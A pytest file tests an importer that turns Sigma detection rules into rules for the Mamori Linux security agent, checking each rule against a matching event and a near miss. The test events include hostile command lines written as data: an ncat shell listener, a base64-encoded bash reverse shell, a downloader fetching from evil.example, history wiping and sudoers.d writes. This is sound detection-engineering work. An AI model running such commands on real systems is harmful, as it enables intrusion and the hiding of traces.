"""The Sigma import (agent/rules/sigma): Sigma rules written in SigmaHQ's format
(tests/rules/sigma_corpus/ and inline ones) translated, the produced text loaded through
Mamori's own loader and evaluated on events built field by field — each rule must fire on
the behaviour and stay quiet on its near miss — and every unsupported construct reported
with its exact reason."""
import os
import textwrap

import pytest
import yaml

from agent.context.containers import ContainerInfo
from agent.context.enricher import Enriched
from agent.rules.ruleset import load
from agent.rules.sigma import import_sigma, main_import
from agent.rules.sigma import importer
from agent.sensor.events import ExecEvent, FileEvent, NetEvent

HERE = os.path.dirname(__file__)
CORPUS = os.path.join(HERE, "..", "rules", "sigma_corpus")
DEFAULT_RULES = os.path.join(HERE, "..", "..", "rules")
CONTAINER = ContainerInfo("abc", "containerd", "/k/abc")


# -- events ----------------------------------------------------------------------------------
def _hdr(kind, uid=1000, comm="x"):
    return (kind, 1, 100, 100, 99, 7, uid, uid, comm, 5, 1, 1)


def exec_item(exe, cmdline="", parent="/bin/sh", uid=1000, cwd="/"):
    args = tuple(cmdline.split(" ")) if cmdline else (exe.rsplit("/", 1)[-1],)
    ev = ExecEvent(*_hdr("exec", uid, exe.rsplit("/", 1)[-1][:15]), exe, 1, 1, "overlay", 1,
                   False, False, False, True, False, exe, args, False, "pipe", "pipe", "pipe",
                   "", None, 0, uid, uid)
    ancestors = ((99, parent, "b:9:99", parent.rsplit("/", 1)[-1]),) if parent else ()
    return Enriched(ev, ev.comm, exe, args, cwd, ancestors, False, CONTAINER, None, None)


def file_item(kind, path, flags=(), new_path=None, exe="/bin/cp", result=0):
    syscall = {"open": "openat", "unlink": "unlinkat", "rename": "renameat2"}[kind]
    ev = FileEvent(*_hdr(kind), syscall, result, None if result >= 0 else "EACCES", path,
                   new_path, tuple(flags), 0o644 if "O_CREAT" in flags else None, -100, False,
                   path, result >= 0)
    return Enriched(ev, exe.rsplit("/", 1)[-1], exe, (exe,), "/", ((99, "/bin/sh", "b", "sh"),),
                    False, CONTAINER, None, None)


def net_item(kind, daddr, dport, saddr="10.1.1.1", sport=40000, exe="/usr/bin/curl",
             family="inet"):
    ev = NetEvent(*_hdr(kind), kind, 0, None, family, "tcp", "stream", saddr, sport, daddr,
                  dport, "", 3, 0)
    return Enriched(ev, exe.rsplit("/", 1)[-1], exe, (exe,), "/", (), False, CONTAINER, None,
                    None)


# -- translating -----------------------------------------------------------------------------
def ruleset_of(tmp_path, text, *more_paths):
    p = tmp_path / "sigma.yaml"
    p.write_text(text)
    rs, problems = load([*more_paths, str(p)])
    assert rs is not None, [str(x) for x in problems]
    return rs


def fired(rs, item) -> set:
    return {r.name for r in rs.evaluate(item)}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    text, report = import_sigma([CORPUS])
    rs = ruleset_of(tmp_path_factory.mktemp("sigma"), text)
    return text, report, rs


def sigma(tmp_path, body: str, name="rule.yml"):
    """Translate one Sigma rule written inline; (ruleset or None, the report's entry)."""
    p = tmp_path / name
    p.write_text(textwrap.dedent(body))
    text, report = import_sigma([str(p)])
    entry = report.entries[-1]
    rs = ruleset_of(tmp_path, text) if entry.translated else None
    return rs, entry, text


def rule_doc(detection: str, logsource="category: process_creation\n    product: linux",
             tags="- attack.execution\n    - attack.t1059.004", level="high", extra=""):
    return f"""\
title: Inline Rule
id: 11111111-2222-4333-8444-555555555555
status: test
description: An inline test rule.
author: tests
date: 2026-08-01
tags:
    {tags}
logsource:
    {logsource}
detection:
{textwrap.indent(textwrap.dedent(detection), '    ')}
level: {level}
{extra}"""


# -- the corpus: behaviour and near miss for each rule -------------------------------------
CASES = [
    ("System Information Discovery Tools - Linux",            # endswith list, not filter
     exec_item("/usr/bin/uname", "uname -a"),
     exec_item("/usr/bin/uname", "uname -a", parent="/usr/bin/landscape-sysinfo")),
    ("System Information Discovery Tools - Linux",
     exec_item("/usr/bin/lscpu", "lscpu"),
     exec_item("/usr/bin/lsblk", "lsblk")),
    ("Base64 Decoded Payload Piped To A Shell",                # contains|all
     exec_item("/bin/sh", "sh -c echo aWQ= | base64 -d | sh"),
     exec_item("/bin/sh", "sh -c echo aWQ= | base64 -d")),
    ("Downloader Run From A Temporary Directory",              # startswith and (a or b), glob
     exec_item("/tmp/dl", "/tmp/dl https://evil.example/x"),
     exec_item("/usr/bin/dl", "/usr/bin/dl https://evil.example/x")),
    ("Downloader Run From A Temporary Directory",              # ? is one character
     exec_item("/tmp/.ax", "/tmp/.ax"),
     exec_item("/tmp/.abx", "/tmp/.abx")),
    ("Downloader Run From A Temporary Directory",
     exec_item("/tmp/dl", "/tmp/dl ftp://h/x"),
     exec_item("/tmp/dl", "/tmp/dl --help")),
    ("Netcat Listener With Program Execution",                 # re, re|i, all of selection_*
     exec_item("/usr/bin/NCat", "ncat -lvp 4444 -e /bin/sh"),
     exec_item("/usr/bin/ncat", "ncat -vp 4444 -e /bin/sh")),
    ("Crontab Edited Outside Package Scripts",                 # 1 of sel_*, not 1 of filter_*
     exec_item("/usr/bin/crontab", "crontab /tmp/jobs.txt"),
     exec_item("/usr/bin/crontab", "crontab /tmp/jobs.txt", parent="/usr/bin/ansible-playbook")),
    ("Crontab Edited Outside Package Scripts",
     exec_item("/usr/bin/crontab", "crontab -e"),
     exec_item("/usr/bin/crontab", "crontab -e", parent="/usr/bin/dpkg")),
    ("Root Shell Started In A Temporary Directory",            # all of them, User root, cwd
     exec_item("/bin/bash", "bash", uid=0, cwd="/tmp/work"),
     exec_item("/bin/bash", "bash", uid=1000, cwd="/tmp/work")),
    ("Root Shell Started In A Temporary Directory",
     exec_item("/bin/sh", "sh", uid=0, cwd="/tmp"),
     exec_item("/bin/sh", "sh", uid=0, cwd="/home")),
    ("History File Cleared",                                   # list of maps
     exec_item("/bin/rm", "rm -f /root/.bash_history"),
     exec_item("/bin/rm", "rm -f /root/.profile")),
    ("History File Cleared",
     exec_item("/usr/bin/truncate", "truncate -s 0 /root/.zsh_history"),
     exec_item("/usr/bin/truncate", "truncate -s 10 /root/.zsh_history")),
    ("History File Cleared",
     exec_item("/bin/bash", "bash -c history -c"),
     exec_item("/bin/bash", "bash -c history")),
    ("Encoded Reverse Shell Argument",                         # base64offset|contains
     exec_item("/bin/sh",
               "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0IDA+JjE= | base64 -d"),
     exec_item("/bin/sh", "sh -c echo YmFzaCAtaQ== | base64 -d")),
    ("Encoded Reverse Shell Argument",                         # windash, exists
     exec_item("/usr/bin/python3", "python3 –c print(1)"),
     exec_item("/usr/bin/python3", "python3 -m http.server")),
    ("File Created In Sudoers.d",                              # file_event: created
     file_item("open", "/etc/sudoers.d/90-evil", ("O_WRONLY", "O_CREAT", "O_TRUNC")),
     file_item("open", "/etc/sudoers.d/90-evil", ("O_RDONLY",))),
    ("File Created In Sudoers.d",                              # file_event: renamed onto
     file_item("rename", "/tmp/x", new_path="/etc/sudoers.d/90-evil"),
     file_item("rename", "/etc/sudoers.d/90-evil", new_path="/tmp/x")),
    ("File Created In Sudoers.d",                              # not filter (Image)
     file_item("open", "/etc/sudoers.d/README", ("O_WRONLY", "O_CREAT"), exe="/usr/bin/vi"),
     file_item("open", "/etc/sudoers.d/README", ("O_WRONLY", "O_CREAT"), exe="/usr/bin/dpkg")),
    ("File Created In Sudoers.d",                              # a failed open created nothing
     file_item("open", "/etc/sudoers.d/x", ("O_WRONLY", "O_CREAT")),
     file_item("open", "/etc/sudoers.d/x", ("O_WRONLY", "O_CREAT"), result=-13)),
    ("Authentication Log Deleted",                             # file_delete, value list
     file_item("unlink", "/var/log/wtmp"),
     file_item("unlink", "/var/log/wtmp.1")),
    ("Outbound Connection To A Callback Port Outside Private Ranges",   # cidr, Initiated
     net_item("connect", "203.0.113.9", 4444),
     net_item("connect", "172.20.1.1", 4444)),
    ("Outbound Connection To A Callback Port Outside Private Ranges",
     net_item("connect", "172.32.0.1", 1337),                  # just outside 172.16.0.0/12
     net_item("connect", "172.31.255.1", 1337)),
    ("Outbound Connection To A Callback Port Outside Private Ranges",
     net_item("connect", "2001:db8::1", 4444, family="inet6"),
     net_item("connect", "fd12:3456::1", 4444, family="inet6")),
    ("Outbound Connection To A Callback Port Outside Private Ranges",   # Initiated: accept no
     net_item("connect", "203.0.113.9", 1337),
     net_item("accept", "203.0.113.9", 1337)),
    ("Inbound SSH Connection To A Container",                  # Initiated false: accept
     net_item("accept", "198.51.100.7", 51000, saddr="10.1.1.1", sport=22),
     net_item("connect", "198.51.100.7", 22)),
    ("Inbound SSH Connection To A Container",
     net_item("accept", "198.51.100.7", 51000, sport=22),
     net_item("accept", "127.0.0.1", 51000, sport=22)),
    ("Shell With A Network Connection",                        # both directions
     net_item("connect", "198.51.100.7", 80, exe="/bin/bash"),
     net_item("connect", "127.0.0.1", 80, exe="/bin/bash")),
    ("Shell With A Network Connection",
     net_item("accept", "198.51.100.7", 5000, exe="/usr/bin/dash"),
     net_item("accept", "198.51.100.7", 5000, saddr="127.0.0.1", exe="/usr/bin/dash")),
]


@pytest.mark.parametrize("name,hit,miss", CASES, ids=[f"{c[0]}-{i}" for i, c in
                                                       enumerate(CASES)])
def test_corpus_rule_fires_on_the_behaviour_not_on_the_near_miss(corpus, name, hit, miss):
    _, _, rs = corpus
    assert name in fired(rs, hit)
    assert name not in fired(rs, miss)


def test_every_supported_corpus_rule_is_translated_and_tested(corpus):
    _, report, rs = corpus
    supported = {e.title for e in report.entries if "/supported/" in e.file}
    assert {e.title for e in report.translated} == supported
    tested = {c[0] for c in CASES}
    enabled = {r.name for r in rs.rules if r.enabled}
    assert enabled <= tested, enabled - tested
    assert len(supported) == len(os.listdir(os.path.join(CORPUS, "supported")))


UNSUPPORTED = {
    "lnx_aggregation.yml": ("aggregation/timeframe", "condition 'selection | count() by "
                            "ParentImage > 10': an aggregation (| count() …) over events; "
                            "Mamori rules match one event"),
    "lnx_timeframe.yml": ("aggregation/timeframe",
                          "timeframe: Mamori rules match one event at a time"),
    "lnx_correlation.yml": ("aggregation/timeframe", "a correlation rule (events counted or "
                            "ordered over time); Mamori rules match one event at a time"),
    "lnx_auditd_service.yml": ("logsource", "product linux, service auditd: Mamori reads "
                               "kernel events, not the auditd log"),
    "win_whoami.yml": ("logsource", "not a Linux rule (product windows, category "
                       "process_creation)"),
    "lnx_unknown_category.yml": ("logsource", "product linux, category registry_set: Mamori "
                                 "has no event for it (known: process_creation, file_event, "
                                 "file_delete, file_rename, network_connection)"),
    "lnx_keywords_only.yml": ("keywords", "values without a field ('/dev/tcp/', 'bash -i'…) "
                              "match a log line's text; Mamori events have fields"),
    "lnx_parent_command_line.yml": ("unmapped field", "ParentCommandLine (process_creation): "
                                    "Mamori events carry the parent's program (proc.pexe), "
                                    "not its command line"),
    "lnx_destination_hostname.yml": ("unmapped field", "DestinationHostname "
                                     "(network_connection): network events carry addresses, "
                                     "not the host name looked up"),
    "lnx_wide_modifier.yml": ("unsupported modifier", "CommandLine|wide: UTF-16 encodes "
                              "Windows event data; Linux arguments are bytes"),
    "lnx_fieldref.yml": ("unsupported modifier", "CommandLine|fieldref: Mamori compares a "
                         "field with values, not with another field"),
    "lnx_port_startswith.yml": ("value", "DestinationPort is a number in Mamori (net.dport): "
                                "startswith does not apply"),
    "lnx_pcre_regex.yml": ("regular expression", "CommandLine: '(?<flag>-e)\\\\s+/bin/sh' is "
                           "not one Python's re accepts (unknown extension ?<f at position 1)"),
    "lnx_no_technique.yml": ("ATT&CK", "no attack.tNNNN technique tag (a Mamori rule needs a "
                             "technique and a tactic)"),
    "lnx_unknown_technique.yml": ("ATT&CK", "no technique the catalog knows (tags: T1112; the "
                                  "catalog has Linux and container techniques)"),
    "lnx_impossible_condition.yml": ("condition", "it cannot hold on any event of "
                                     "network_connection (connect, accept)"),
}


@pytest.mark.parametrize("fname", sorted(UNSUPPORTED))
def test_unsupported_rule_reported_with_its_reason(corpus, fname):
    _, report, _ = corpus
    [e] = [e for e in report.entries if e.file.endswith("/unsupported/" + fname)]
    assert not e.translated
    assert (e.category, e.detail) == UNSUPPORTED[fname]
    assert e.line() == f"{e.file}: {e.title}: not translated: {e.category}: {e.detail}"


def test_every_unsupported_corpus_file_is_in_the_table():
    assert set(os.listdir(os.path.join(CORPUS, "unsupported"))) == set(UNSUPPORTED)


def test_report_breakdown_and_summary(corpus):
    _, report, _ = corpus
    assert report.breakdown() == {"aggregation/timeframe": 3, "logsource": 3, "keywords": 1,
                                  "unmapped field": 2, "unsupported modifier": 2, "value": 1,
                                  "regular expression": 1, "ATT&CK": 2, "condition": 1}
    n = len(os.listdir(os.path.join(CORPUS, "supported")))
    assert report.summary() == f"{n} of {n + len(UNSUPPORTED)} Sigma rules translated"


def test_output_loads_beside_the_default_rules(corpus, tmp_path):
    text, _, _ = corpus
    rs = ruleset_of(tmp_path, text, DEFAULT_RULES)
    assert rs.rule("Authentication Log Deleted") is not None


# -- metadata ----------------------------------------------------------------------------------
def test_metadata_of_a_translated_rule(corpus):
    text, _, rs = corpus
    r = rs.rule("System Information Discovery Tools - Linux")
    assert (r.tactic, r.technique, r.severity, r.events) == ("TA0007", "T1082", "low", ("exec",))
    assert r.tags == ("sigma", "sigma-status:test")
    assert "Imported from Sigma rule 3b1d0e6a-7c52-4f0e-9a61-2d8c5f4e1a01" in r.desc
    assert r.desc.endswith("False positives: Inventory agents; Login banners (motd scripts).")
    assert r.output.startswith("System Information Discovery Tools - Linux: %proc.exe")
    # the tactic is the tag the technique belongs to; the other technique is kept as a tag
    b = rs.rule("Base64 Decoded Payload Piped To A Shell")
    assert (b.tactic, b.technique) == ("TA0005", "T1140")
    assert "attack.t1059.004" in b.tags


def test_deprecated_rule_disabled_and_parent_technique_used(corpus):
    _, report, rs = corpus
    r = rs.rule("PowerShell Core On Linux")
    assert (r.enabled, r.tactic, r.technique, r.severity) == (False, "TA0002", "T1059", "medium")
    assert "car.2013-05-004" in r.tags
    [e] = [e for e in report.entries if e.title == "PowerShell Core On Linux"]
    assert e.notes == ["technique T1059.001 is not in the catalog: its parent T1059 is used",
                       "no level: severity medium", "status deprecated: enabled: false"]


def test_tactic_from_the_catalog_when_no_tactic_tag(corpus):
    _, report, rs = corpus
    r = rs.rule("Root Shell Started In A Temporary Directory")
    assert (r.tactic, r.technique, r.severity) == ("TA0002", "T1059.004", "info")


@pytest.mark.parametrize("level,severity", [("informational", "info"), ("low", "low"),
                                            ("medium", "medium"), ("high", "high"),
                                            ("critical", "critical")])
def test_level_to_severity(tmp_path, level, severity):
    rs, e, _ = sigma(tmp_path, rule_doc("sel:\n    Image: '/x'\ncondition: sel", level=level))
    assert rs.rule("Inline Rule").severity == severity


def test_technique_in_several_tactics_without_a_matching_tag(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("sel:\n    Image: '/x'\ncondition: sel",
                                        tags="- attack.discovery\n    - attack.t1078"))
    r = rs.rule("Inline Rule")
    assert (r.tactic, r.technique) == ("TA0001", "T1078")
    assert e.notes == ["T1078 belongs to TA0001, TA0003, TA0004, TA0005; its tactic tags "
                       "(TA0007) are not among them: TA0001 used"]


def test_duplicate_titles_get_the_sigma_id(tmp_path):
    (tmp_path / "a.yml").write_text(rule_doc("sel:\n    Image: '/a'\ncondition: sel"))
    (tmp_path / "b.yml").write_text(rule_doc("sel:\n    Image: '/b'\ncondition: sel")
                                    .replace("11111111-2222", "99999999-2222"))
    text, report = import_sigma([str(tmp_path)])
    rs = ruleset_of(tmp_path, text)
    assert [r.name for r in rs.rules] == ["Inline Rule", "Inline Rule (99999999)"]
    assert report.entries[1].line().endswith("translated as 'Inline Rule (99999999)'")


def test_percent_in_title_is_not_an_output_field(tmp_path):
    body = rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
        "title: Inline Rule", "title: 100%proc.exe Rule")
    rs, e, _ = sigma(tmp_path, body)
    r = rs.rule("100%proc.exe Rule")
    assert r.render(exec_item("/x")).startswith("100% proc.exe Rule: /x")


# -- constructs, inline ------------------------------------------------------------------------
def test_quotes_backslashes_and_keywords_in_values(tmp_path):
    rs, e, text = sigma(tmp_path, rule_doc(r"""
        sel:
            CommandLine|contains:
                - 'say "hi"'
                - 'a\b'
                - ' and '
                - 'shell_binaries'
        condition: sel
        """))
    for cmd in ('echo say "hi"', "echo a\\b", "x and y", "use shell_binaries"):
        assert "Inline Rule" in fired(rs, exec_item("/bin/echo", cmd)), cmd
    assert not fired(rs, exec_item("/bin/echo", "echo say hi"))
    # loaded beside the default rules, a value that is a list's name stays a value
    rs2 = ruleset_of(tmp_path, text, DEFAULT_RULES)
    assert "Inline Rule" not in fired(rs2, exec_item("/bin/sh", "sh"))


def test_escaped_wildcards_are_literal(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc(r"""
        sel:
            CommandLine: 'echo \*[x]?'
        condition: sel
        """))
    assert fired(rs, exec_item("/bin/echo", "echo *[x]a"))
    assert not fired(rs, exec_item("/bin/echo", "echo a[x]a"))
    assert not fired(rs, exec_item("/bin/echo", "echo *x"))


def test_condition_list_parentheses_and_nested_not(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("""
        sel_a:
            Image|endswith: '/a'
        sel_b:
            Image|endswith: '/b'
        flt:
            CommandLine|contains: 'safe'
        flt_2:
            CommandLine|contains: 'sure'
        condition: (sel_a or sel_b) and not (flt and flt_2)
        """))
    assert fired(rs, exec_item("/x/a", "a"))
    assert fired(rs, exec_item("/x/b", "b safe"))
    assert not fired(rs, exec_item("/x/b", "b safe sure"))
    assert not fired(rs, exec_item("/x/c", "c"))


def test_two_conditions_mean_either(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("""
        sel_a:
            Image|endswith: '/a'
        sel_b:
            Image|endswith: '/b'
        condition:
            - sel_a
            - sel_b
        """))
    assert fired(rs, exec_item("/x/a")) and fired(rs, exec_item("/x/b"))
    assert not fired(rs, exec_item("/x/c"))


def test_all_of_them_over_a_list_with_all(tmp_path):
    rs, e, text = sigma(tmp_path, rule_doc("""
        sel:
            CommandLine|endswith|all:
                - 'x'
                - 'yx'
        condition: all of them
        """))
    assert fired(rs, exec_item("/bin/e", "e ayx"))
    assert not fired(rs, exec_item("/bin/e", "e ax"))


def test_null_and_empty_values(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("""
        sel:
            Image|endswith: '/a'
        flt:
            ParentImage: null
        condition: sel and not flt
        """))
    assert fired(rs, exec_item("/x/a", parent="/bin/sh"))
    assert not fired(rs, exec_item("/x/a", parent=""))       # no parent known


def test_star_alone_means_the_field_exists(tmp_path):
    rs, e, text = sigma(tmp_path, rule_doc("""
        sel:
            Image|endswith: '/a'
            ParentImage: '*'
        condition: sel
        """))
    assert "proc.pexe exists" in text
    assert fired(rs, exec_item("/x/a"))
    assert not fired(rs, exec_item("/x/a", parent=""))


def test_numbers_and_comparisons(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("""
        sel:
            Initiated: 'true'
            DestinationPort|gte: 30000
            DestinationPort|lt: 30010
            SourcePort: '5555'
        condition: sel
        """, logsource="category: network_connection\n    product: linux"))
    assert fired(rs, net_item("connect", "1.2.3.4", 30005, sport=5555))
    assert not fired(rs, net_item("connect", "1.2.3.4", 30010, sport=5555))
    assert not fired(rs, net_item("connect", "1.2.3.4", 30005, sport=5556))


def test_cidr_host_and_whole_range(tmp_path):
    rs, e, text = sigma(tmp_path, rule_doc("""
        sel:
            DestinationIp|cidr:
                - '198.51.100.7/32'
                - '203.0.113.0/25'
        condition: sel
        """, logsource="category: network_connection\n    product: linux"))
    assert fired(rs, net_item("connect", "198.51.100.7", 80))
    assert not fired(rs, net_item("connect", "198.51.100.70", 80))
    assert fired(rs, net_item("connect", "203.0.113.127", 80))
    assert not fired(rs, net_item("connect", "203.0.113.128", 80))
    assert e.notes == []


def test_file_rename_category(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("""
        sel:
            SourceFilename|startswith: '/tmp/'
            TargetFilename|startswith: '/usr/bin/'
        condition: sel
        """, logsource="category: file_rename\n    product: linux"))
    assert fired(rs, file_item("rename", "/tmp/x", new_path="/usr/bin/ls"))
    assert not fired(rs, file_item("rename", "/home/x", new_path="/usr/bin/ls"))


def test_user_other_than_root_is_not_translated(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("sel:\n    User: 'www-data'\ncondition: sel"))
    assert (e.category, e.detail) == (
        "unmapped field", "User = www-data: Mamori has the uid (proc.uid), not the user name; "
        "only root (uid 0) is known")


def test_placeholder_is_not_translated(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("sel:\n    CommandLine|expand: '%admin_tools%'\n"
                                        "condition: sel"))
    assert (e.category, e.detail) == (
        "unsupported modifier", "CommandLine|expand: placeholders are filled in by a pipeline "
        "Mamori does not have")


def test_hashes_field_is_not_translated(tmp_path):
    rs, e, _ = sigma(tmp_path, rule_doc("sel:\n    Hashes|contains: 'SHA256=ab'\n"
                                        "condition: sel"))
    assert e.category == "unmapped field" and e.detail.startswith("Hashes (process_creation)")


# -- bad input ---------------------------------------------------------------------------------
def test_yaml_syntax_error_names_the_file(tmp_path, capsys):
    p = tmp_path / "broken.yml"
    p.write_text("title: x\ndetection:\n  sel: [a\n")
    assert main_import([str(p)]) == 1
    err = capsys.readouterr().err
    assert f"{p}: not translated: unreadable: YAML syntax at line 4, column 1" in err
    assert "Traceback" not in err


@pytest.mark.parametrize("body,category,detail", [
    ("- a\n- b\n", "invalid Sigma", "a rule is a mapping (title:, logsource:, detection: …), "
     "not a list"),
    (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace("level: high", "level: urgent"),
     "invalid Sigma", None),
    (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
        "tags:\n    - attack.execution\n    - attack.t1059.004", "tags: 5"), "invalid Sigma",
     None),
    ("title: t\nlogsource: [a]\ndetection: x\n", "invalid Sigma",
     "logsource must be a mapping, not a list"),
    (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
        "product: linux", "product: [linux]"), "invalid Sigma",
     "logsource.product must be text, not a list"),
    (rule_doc("sel:\n    Image: '/x'\ncondition: 1.5"), "invalid Sigma",
     "detection.condition must be text or a list of texts, not float"),
    (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
        "- attack.execution", "- {a: 1}"), "invalid Sigma",
     "tags must be a list of texts, not a list holding {'a': 1}"),
    (rule_doc("sel:\n    Image: '/x'\ncondition: sel and nothere"), "invalid Sigma",
     "the condition names 'nothere', which is not a detection"),
    (rule_doc("sel:\n    Image|nosuch: '/x'\ncondition: sel"), "invalid Sigma", None),
])
def test_wrong_types_are_reported_not_raised(tmp_path, body, category, detail):
    p = tmp_path / "bad.yml"
    p.write_text(body)
    text, report = import_sigma([str(p)])
    [e] = report.entries
    assert not e.translated and e.category == category, e.line()
    assert e.detail if detail is None else e.detail == detail
    assert e.file == str(p)


def test_unreadable_inputs(tmp_path, capsys):
    (tmp_path / "latin1.yml").write_bytes(b"title: caf\xe9\n")
    missing = str(tmp_path / "missing.yml")
    assert main_import([str(tmp_path), missing]) == 1
    err = capsys.readouterr().err
    assert f"{tmp_path / 'latin1.yml'}: not translated: unreadable: not UTF-8 text" in err
    assert f"{missing}: not translated: unreadable: no such file or directory" in err


def test_exit_codes_and_output_file(tmp_path, capsys):
    good = tmp_path / "good.yml"
    good.write_text(rule_doc("sel:\n    Image: '/x'\ncondition: sel"))
    bad = tmp_path / "nokw.yml"
    bad.write_text(rule_doc("kw:\n    - 'evil'\ncondition: kw"))
    out = tmp_path / "out.yaml"
    assert main_import([str(good), str(bad), "-o", str(out)]) == 0     # something translated
    assert yaml.safe_load(out.read_text())[0]["rule"] == "Inline Rule"
    err = capsys.readouterr().err
    assert f"{good}: Inline Rule: translated\n" in err
    assert err.rstrip().endswith("1 of 2 Sigma rules translated")
    assert main_import([str(bad)]) == 1                                # nothing translated
    assert main_import([str(good)]) == 0
    assert "- rule: Inline Rule" in capsys.readouterr().out            # stdout by default
    assert main_import([str(good), "-o", str(tmp_path / "no" / "dir.yaml")]) == 1
    assert main_import([]) == 2                                        # argparse: usage


def test_a_rule_the_loader_rejects_is_reported_and_left_out(tmp_path, monkeypatch):
    (tmp_path / "a.yml").write_text(rule_doc("sel:\n    Image: '/a'\ncondition: sel"))
    (tmp_path / "b.yml").write_text(rule_doc("sel:\n    Image: '/b'\ncondition: sel",
                                             level="low").replace("title: Inline Rule",
                                                                  "title: Other"))
    real = importer.severity
    monkeypatch.setattr(importer, "severity",
                        lambda level, notes: "urgent" if level.name == "LOW" else
                        real(level, notes))
    text, report = import_sigma([str(tmp_path)])
    a, b = report.entries
    assert a.translated and not b.translated
    assert (b.category, b.detail) == ("rejected by the rule loader", "rule 'Other': severity "
                                      "must be one of info, low, medium, high, critical, not "
                                      "'urgent'")
    rs = ruleset_of(tmp_path, text)
    assert [r.name for r in rs.rules] == ["Inline Rule"]


def test_without_pysigma_the_command_says_how_to_install_it(monkeypatch, capsys):
    import sys
    for mod in [m for m in sys.modules if m == "sigma" or m.startswith("sigma.") or
                m.startswith("agent.rules.sigma.")]:
        monkeypatch.delitem(sys.modules, mod)
    monkeypatch.setitem(sys.modules, "sigma", None)       # import sigma raises ImportError
    assert main_import([CORPUS]) == 1
    assert capsys.readouterr().err == ("mamori rules import-sigma needs pySigma, which is not "
                                       "installed: pip install 'mamori[sigma]'\n")


def test_the_mamori_command_runs_the_import(tmp_path, capsys):
    """`mamori rules import-sigma DIR -o OUT` (agent/cli.py) writes rules our loader takes."""
    from agent import cli
    from agent.rules.ruleset import load
    out = tmp_path / "sigma.yaml"
    here = os.path.join(os.path.dirname(os.path.dirname(__file__)), "rules", "sigma_corpus")
    assert cli.main(["rules", "import-sigma", os.path.join(here, "supported"), "-o",
                     str(out)]) == 0
    err = capsys.readouterr().err
    assert err.rstrip().endswith("14 of 14 Sigma rules translated")
    rs, problems = load([str(out)])
    assert rs is not None and len(rs.rules) == 14, [str(p) for p in problems]
